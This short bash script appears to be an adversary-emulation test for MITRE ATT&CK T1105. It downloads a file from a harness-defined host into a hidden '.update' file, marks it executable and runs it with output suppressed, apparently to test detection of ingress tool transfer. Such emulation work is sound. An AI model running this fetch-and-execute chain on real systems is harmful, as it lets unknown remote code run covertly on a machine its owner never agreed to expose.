#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1105
# tactic: command-and-control
# what: curl -o /tmp/.x, chmod +x, run it (an ELF the host never saw)
. "$AT_LIB"
curl -fsS -o "$AT_TMP/.update" "$AT_HTTP/update"
chmod +x "$AT_TMP/.update"
"$AT_TMP/.update" >/dev/null
